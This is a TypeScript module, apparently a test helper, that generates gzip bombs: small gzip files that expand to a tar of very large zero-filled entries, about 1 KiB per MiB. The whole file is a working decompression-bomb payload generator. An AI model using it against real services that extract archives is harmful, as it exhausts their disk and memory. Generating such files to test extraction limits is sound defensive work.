import zlib from "node:zlib";

/** One tar entry of `size` zero bytes. */
export interface ZeroEntry {
  readonly name: string;
  readonly size: number;
}

const MiB = 1024 * 1024;
const zeros = Buffer.alloc(MiB);

/**
 * Deflate data ending in a full flush: byte-aligned and referring to nothing before it, so
 * such pieces can follow each other in one deflate stream. 1 MiB of zeros takes about 1 KiB.
 */
function deflatePiece(data: Buffer): Buffer {
  return zlib.deflateRawSync(data, { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
}
const zeroPiece = deflatePiece(zeros);

/** A ustar header block for a regular file. */
function tarHeader(name: string, size: number): Buffer {
  const header = Buffer.alloc(512);
  const octal = (value: number, width: number) => value.toString(8).padStart(width - 1, "0") + "\0";
  header.write(name, 0, 100, "utf8");
  header.write(octal(0o644, 8), 100);
  header.write(octal(0, 8), 108);
  header.write(octal(0, 8), 116);
  header.write(octal(size, 12), 124);
  header.write(octal(0, 12), 136);
  header.write("        ", 148); // the checksum counts its own field as spaces
  header.write("0", 156);
  header.write("ustar\0" + "00", 257);
  let sum = 0;
  for (const byte of header) sum += byte;
  header.write(octal(sum, 7) + " ", 148);
  return header;
}

/**
 * A gzip bomb: a tar of zero-filled entries in one gzip member, about 1 KiB of gzip per MiB
 * of tar, built from repeated deflate pieces without ever holding the tar. Sizes are whole MiB.
 */
export function gzipBomb(entries: readonly ZeroEntry[]): Buffer {
  const pieces: Buffer[] = [Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255])];
  let crc = 0;
  let length = 0;
  const add = (piece: Buffer, data: Buffer) => {
    pieces.push(piece);
    crc = zlib.crc32(data, crc);
    length += data.length;
  };
  for (const { name, size } of entries) {
    if (size % MiB !== 0) throw new Error(`bomb entries are whole MiB: ${name} is ${size} bytes`);
    const header = tarHeader(name, size);
    add(deflatePiece(header), header);
    for (let i = 0; i < size / MiB; i++) add(zeroPiece, zeros);
  }
  const end = Buffer.alloc(1024); // two empty blocks end a tar
  add(deflatePiece(end), end);
  pieces.push(zlib.deflateRawSync(Buffer.alloc(0))); // the final deflate block
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crc >>> 0, 0);
  trailer.writeUInt32LE(length % 2 ** 32, 4);
  pieces.push(trailer);
  return Buffer.concat(pieces);
}
